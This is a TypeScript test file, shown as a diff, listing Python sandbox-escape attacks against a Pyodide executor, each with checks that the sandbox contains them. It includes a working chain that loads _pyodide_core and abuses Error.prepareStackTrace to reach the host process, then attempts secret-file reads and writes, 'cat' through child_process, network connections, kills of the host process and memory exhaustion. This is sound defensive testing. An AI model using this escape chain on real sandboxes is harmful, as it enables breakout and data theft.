@@ -1,0 +1,377 @@
+// Attacks on the Python executor (Pyodide in a locked-down sandbox host process). The Python
+// engineer's own escape suite (test/python/escape-suite.ts, run by escapes.test.ts) already covers,
+// with the same kind of canaries: open() of host files, os.listdir, os.environ, os.system/popen,
+// subprocess, posix.* kept by reference, socket connect and listen, js.fetch, pyodide.http.pyfetch,
+// pyodide.code.run_js, pyodide_js.mountNodeFS, pyodide.ffi, JS objects left in sys.modules or
+// module globals, JS Function from any JsProxy, ctypes, _imp.create_builtin/create_dynamic,
+// sys.meta_path surgery, code objects from bytes, gc introspection, files/builtins/random left
+// between calls; test/python/limits.test.ts covers loops, swallowed KeyboardInterrupt, time.sleep,
+// 10**10**8, memory, raised recursion limits, json.loads bombs, file and pipe quotas, output. The
+// attacks here fill the gaps the issue lists (_pyodide_core, __import__ hooks, frames, more routes
+// to files and the network, signals, asyncio, exits, huge numbers) and, like every family, check
+// the canaries and the whole server after each one.
+
+import { expect } from 'vitest';
+import { type Attack, evaluateAttack } from '../harness.js';
+
+const py = (spec: Omit<Parameters<typeof evaluateAttack>[0], 'language'>): Attack =>
+  evaluateAttack({ language: 'python', fn: 'f', ...spec });
+
+/** The route to the JS bridge found while writing these tests (reported, see docs/security.md). */
+const REACH_JS_GLOBAL = `
+import importlib
+def reach_js_global():
+    core = importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec('_pyodide_core'))
+    arr = core.to_js([1])
+    try:
+        arr.constructor.constructor.prototype.call.call(None)
+    except BaseException as e:
+        js_error = e.js_error
+    Object = core.to_js({}).constructor
+    Error = Object.getPrototypeOf(js_error.constructor)
+    found = []
+    def prepare(error, callsites):
+        for site in callsites:
+            this = site.getThis()
+            if this is not None and 'global' in repr(this):
+                found.append(this)
+        return 'x'
+    Error.prepareStackTrace = core.create_proxy(prepare)
+    try:
+        arr.constructor.constructor.prototype.call.call(None)
+    except BaseException as e:
+        str(e.js_error.stack)
+    return found[0], Object
+`;
+
+export const PYTHON_ATTACKS: readonly Attack[] = [
+  // Found here (reported to the Python executor's owner, not fixed in this change): the import
+  // blocker and the audit hook see imports that go through _find_spec; importlib._bootstrap._load
+  // with a spec from BuiltinImporter skips both and loads _pyodide_core. Its to_js/create_proxy
+  // give JsProxy objects; a JS exception's constructor chain gives Error, and a Python function as
+  // Error.prepareStackTrace gets CallSite.getThis() = the worker's globalThis, then process and
+  // process.getBuiltinModule. Layer 2 holds: the permission model refuses fs and child_process,
+  // the environment is empty, the PID namespace shows pid 1 and the network namespace has no route.
+  py({
+    id: 'py-pyodide-core-to-process',
+    title:
+      '_pyodide_core via importlib._bootstrap._load → JsProxy → Error.prepareStackTrace → globalThis.process',
+    result: 'layer 1 gives way; layer 2 holds: no file, no spawn, empty env, pid 1',
+    contained:
+      'the Python lockdown let _pyodide_core load (no import audit event on _bootstrap._load); reported with this reproduction',
+    code: `${REACH_JS_GLOBAL}
+def f():
+    out = {}
+    def t(name, fn):
+        try:
+            out[name] = repr(fn())[:200]
+        except BaseException as e:
+            out[name] = 'refused: ' + type(e).__name__ + ': ' + str(e)[:150]
+    try:
+        g, Object = reach_js_global()
+    except BaseException as e:
+        return {'layer1': 'held: ' + type(e).__name__}
+    out['layer1'] = 'bypassed'
+    p = g.process
+    t('env', lambda: list(Object.keys(p.env)))
+    t('pid', lambda: p.pid)
+    get = p.getBuiltinModule
+    t('fs', lambda: get('fs').readFileSync('{{SECRET_FILE}}', 'utf8'))
+    t('fs_write', lambda: get('fs').writeFileSync('{{SECRET_FILE}}', 'pwned'))
+    t('child_process', lambda: get('child_process').execSync('cat {{SECRET_FILE}}'))
+    return out
+`,
+    limits: { timeoutMs: 10_000 },
+    check: (body) => {
+      if (!body.ok) return; // the interpreter died trying: also a failure of the attack
+      const v = body.value as Record<string, string>;
+      if (v.layer1 !== 'bypassed') return;
+      expect(v.env).toBe('[]');
+      expect(v.fs).toMatch(/^refused/);
+      expect(v.fs_write).toMatch(/^refused/);
+      expect(v.child_process).toMatch(/^refused/);
+    },
+  }),
+  // The same route, then the network: net.connect to the loopback listener.
+  py({
+    id: 'py-pyodide-core-to-network',
+    title: 'the _pyodide_core route, then net.connect and http.get to a loopback listener',
+    result: 'no connection (no network in the sandbox host namespace)',
+    contained: 'as py-pyodide-core-to-process',
+    code: `${REACH_JS_GLOBAL}
+def f():
+    try:
+        g, Object = reach_js_global()
+    except BaseException as e:
+        return 'layer 1 held: ' + type(e).__name__
+    get = g.process.getBuiltinModule
+    s = get('net').connect({{PORT}}, '127.0.0.1')
+    s.on('error', core_noop())
+    get('http').get('http://127.0.0.1:{{PORT}}/').on('error', core_noop())
+    import time
+    time.sleep(0.5)
+    return 'sent'
+def core_noop():
+    import importlib
+    core = importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec('_pyodide_core'))
+    return core.create_proxy(lambda *a: None)
+`,
+    limits: { timeoutMs: 10_000 },
+    check: () => {},
+  }),
+  // Every other import route the issue names: a replaced __import__, importlib.import_module,
+  // the bootstrap's own functions, a custom finder first on sys.meta_path, sys.modules injection.
+  py({
+    id: 'py-import-machinery',
+    title: '__import__ hook, import_module, _find_and_load, a first meta_path finder, sys.modules games',
+    result: 'no js, pyodide_js, pyodide.code or pyodide.ffi module by any route',
+    code: `
+import sys, builtins, importlib, importlib.util, importlib.machinery
+def f():
+    got = {}
+    names = ['js', 'pyodide_js', 'pyodide.code', 'pyodide.ffi']
+    def t(route, fn):
+        for name in names:
+            try:
+                m = fn(name)
+                got[route + ':' + name] = type(m).__name__
+            except BaseException as e:
+                got[route + ':' + name] = 'refused'
+    original = builtins.__import__
+    builtins.__import__ = lambda name, *a, **k: original(name, *a, **k)
+    t('hooked __import__', lambda n: __import__(n))
+    builtins.__import__ = original
+    t('import_module', importlib.import_module)
+    t('_find_and_load', lambda n: importlib._bootstrap._find_and_load(n, importlib._bootstrap._gcd_import))
+    t('BuiltinImporter', lambda n: importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec(n)))
+    t('FrozenImporter', lambda n: importlib._bootstrap._load(importlib.machinery.FrozenImporter.find_spec(n)))
+    class Finder:
+        @classmethod
+        def find_spec(cls, name, path=None, target=None):
+            return importlib.machinery.BuiltinImporter.find_spec(name)
+    sys.meta_path.insert(0, Finder)
+    t('first finder', importlib.import_module)
+    sys.modules.pop('js', None)
+    t('sys.modules popped', importlib.import_module)
+    return got
+`,
+    check: (body) => {
+      expect(body.ok).toBe(true);
+      for (const [route, what] of Object.entries(body.value as Record<string, string>)) {
+        expect(what, route).not.toBe('module');
+      }
+    },
+  }),
+  // Frames: from the user's function up through the harness, looking for JS objects in any frame's
+  // globals or locals.
+  py({
+    id: 'py-frames',
+    title: "sys._getframe() up through the harness's frames, collecting JS objects from globals/locals",
+    result: 'no JS object in any frame',
+    code: `
+import sys
+def f():
+    found = []
+    frame = sys._getframe(0)
+    while frame is not None:
+        for scope in (frame.f_globals, frame.f_locals):
+            for k, v in list(scope.items()):
+                if 'Js' in type(v).__name__:
+                    found.append(frame.f_code.co_name + '.' + k)
+        frame = frame.f_back
+    return found
+`,
+    check: (body) => expect(body).toMatchObject({ ok: true, value: [] }),
+  }),
+  // Host files by routes the escape suite does not take.
+  py({
+    id: 'py-host-files-more',
+    title: 'os.open, io.FileIO, pathlib, /proc/self/root, os.scandir("/"), mmap on the secret file',
+    result: 'nothing of the host: the secret is never read',
+    code: `
+import os, io, pathlib, mmap
+def f():
+    out = {}
+    def t(name, fn):
+        try:
+            out[name] = repr(fn())[:120]
+        except BaseException as e:
+            out[name] = type(e).__name__
+    path = '{{SECRET_FILE}}'
+    t('os.open', lambda: os.read(os.open(path, os.O_RDONLY), 100))
+    t('FileIO', lambda: io.FileIO(path).read())
+    t('pathlib', lambda: pathlib.Path(path).read_text())
+    t('proc root', lambda: open('/proc/self/root' + path).read())
+    t('scandir', lambda: sorted(e.name for e in os.scandir('/')))
+    t('mmap', lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:100])
+    t('proc 1 environ', lambda: open('/proc/1/environ', 'rb').read())
+    return out
+`,
+    check: (body) => expect(body.ok).toBe(true),
+  }),
+  // The network by routes the escape suite does not take.
+  py({
+    id: 'py-network-more',
+    title: 'urllib, http.client, asyncio.open_connection, getaddrinfo to the loopback listener',
+    result: 'each refused; the listener sees nothing',
+    code: `
+import asyncio, socket, urllib.request, http.client
+async def f():
+    out = {}
+    async def t(name, fn):
+        try:
+            r = fn()
+            if asyncio.iscoroutine(r):
+                r = await asyncio.wait_for(r, 2)
+            out[name] = repr(r)[:120]
+        except BaseException as e:
+            out[name] = type(e).__name__
+    await t('urllib', lambda: urllib.request.urlopen('http://127.0.0.1:{{PORT}}/', timeout=1).read())
+    await t('http.client', lambda: http.client.HTTPConnection('127.0.0.1', {{PORT}}, timeout=1).request('GET', '/'))
+    await t('asyncio', lambda: asyncio.open_connection('127.0.0.1', {{PORT}}))
+    await t('getaddrinfo', lambda: socket.getaddrinfo('localhost', {{PORT}}))
+    return out
+`,
+    limits: { timeoutMs: 10_000 },
+    check: (body) => {
+      expect(body.ok).toBe(true);
+      for (const [route, what] of Object.entries(body.value as Record<string, string>)) {
+        expect(what, route).toMatch(/error|exception|refused|timeout/i);
+      }
+    },
+  }),
+  // Catching the time limit: ignore SIGINT (Pyodide's interrupt is a signal), then loop.
+  py({
+    id: 'py-ignore-sigint',
+    title: 'signal.signal(SIGINT, SIG_IGN), then an endless loop',
+    result: 'TIMEOUT (the worker is terminated from outside)',
+    code: 'import signal\ndef f():\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n',
+    limits: { timeoutMs: 1000 },
+    codes: ['TIMEOUT'],
+  }),
+  // An async function parked in the event loop: nothing runs, so only the deadline can end it.
+  py({
+    id: 'py-asyncio-sleep',
+    title: 'await asyncio.sleep(100) in an async function',
+    result: 'TIMEOUT',
+    code: 'import asyncio\nasync def f():\n    await asyncio.sleep(100)\n',
+    limits: { timeoutMs: 1000 },
+    codes: ['TIMEOUT'],
+  }),
+  // Ending the interpreter: os._exit and os.abort.
+  py({
+    id: 'py-exit-abort',
+    title: 'os._exit(3) (and os.abort) inside a call',
+    result: 'the call fails (SANDBOX_CRASH); only that interpreter ends',
+    code: 'import os\ndef f():\n    os._exit(3)\n',
+    codes: ['SANDBOX_CRASH', 'RUNTIME_ERROR'],
+  }),
+  // Signals to the host: the parent (the sandbox host), pid 1, itself.
+  py({
+    id: 'py-kill-host',
+    title: 'os.kill(os.getppid(), SIGKILL), os.kill(1, SIGKILL), signal.raise_signal(SIGKILL)',
+    result: 'refused; the host keeps serving',
+    code: `
+import os, signal
+def f():
+    out = []
+    for fn in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
+               lambda: os.killpg(0, signal.SIGKILL), lambda: signal.raise_signal(signal.SIGKILL)):
+        try:
+            fn()
+            out.append('sent')
+        except BaseException as e:
+            out.append(type(e).__name__)
+    return out
+`,
+    check: (body) => {
+      if (body.ok) expect(body.value).not.toContain('sent');
+    },
+  }),
+  // Threads and processes from the standard library.
+  py({
+    id: 'py-threads-processes',
+    title: 'threading, _thread, multiprocessing, concurrent.futures',
+    result: 'each refused',
+    code: `
+def f():
+    out = {}
+    def t(name, fn):
+        try:
+            fn()
+            out[name] = 'started'
+        except BaseException as e:
+            out[name] = type(e).__name__
+    import threading, _thread
+    t('threading', lambda: threading.Thread(target=lambda: None).start())
+    t('_thread', lambda: _thread.start_new_thread(lambda: None, ()))
+    t('multiprocessing', lambda: __import__('multiprocessing').Process(target=print).start())
+    t('futures', lambda: __import__('concurrent.futures').futures.ProcessPoolExecutor().submit(print).result())
+    return out
+`,
+    check: (body) => {
+      expect(body.ok).toBe(true);
+      expect(Object.values(body.value)).not.toContain('started');
+    },
+  }),
+  // Huge integers (the digit limit lifted) and huge strings.
+  py({
+    id: 'py-huge-int',
+    title: 'sys.set_int_max_str_digits(0); str(10 ** 10 ** 7) (one long C operation)',
+    result: 'TIMEOUT',
+    code: 'import sys\ndef f():\n    sys.set_int_max_str_digits(0)\n    return len(str(10 ** (10 ** 7)))\n',
+    limits: { timeoutMs: 1000 },
+    codes: ['TIMEOUT'],
+  }),
+  // One allocation far past the memory limit, for a string and a bytearray.
+  py({
+    id: 'py-huge-string',
+    title: "'x' * 2 ** 31 and bytearray(2 ** 30)",
+    result: 'MEMORY_LIMIT or a clean MemoryError/OverflowError',
+    code: "def f():\n    b = bytearray(2 ** 30)\n    return len('x' * 2 ** 31)\n",
+    codes: ['MEMORY_LIMIT', 'RUNTIME_ERROR'],
+  }),
+  // Recursion through C (repr → __repr__) after raising the recursion limit: the native stack must not overflow.
+  py({
+    id: 'py-recursion-repr',
+    title: 'sys.setrecursionlimit(10 ** 6), then __repr__ recursion (C recursion)',
+    result: 'RUNTIME_ERROR (RecursionError)',
+    code: 'import sys\nsys.setrecursionlimit(10 ** 6)\nclass R:\n    def __repr__(self):\n        return repr(R())\ndef f():\n    return repr(R())\n',
+    limits: { timeoutMs: 10_000 },
+    codes: ['RUNTIME_ERROR'],
+  }),
+  // Persistence by routes the escape suite does not take: another module's function, os.environ,
+  // the home directory, the working directory.
+  {
+    id: 'py-persistence-more',
+    title: 'patch json.dumps, set os.environ, write ~ and cwd files in one call; look in the next',
+    result: 'the next call sees none of it',
+    async run(h) {
+      const first = await h.evaluate(
+        'python',
+        `
+import json, os
+def f():
+    json.dumps = lambda *a, **k: 'pwned'
+    os.environ['POLYEVAL_LEFT'] = 'behind'
+    open(os.path.expanduser('~/left.txt'), 'w').write('behind')
+    open('left.txt', 'w').write('behind')
+    return 1
+`,
+        { fn: 'f' },
+      );
+      expect(first.status).toBe(200);
+      const second = await h.evaluate(
+        'python',
+        `
+import json, os
+def f():
+    return [json.dumps([1]), os.environ.get('POLYEVAL_LEFT'), os.path.exists(os.path.expanduser('~/left.txt')),
+            os.path.exists('left.txt')]
+`,
+        { fn: 'f' },
+      );
+      expect(second.body).toMatchObject({ ok: true, value: ['[1]', null, false, false] });
+    },
+  },
+];
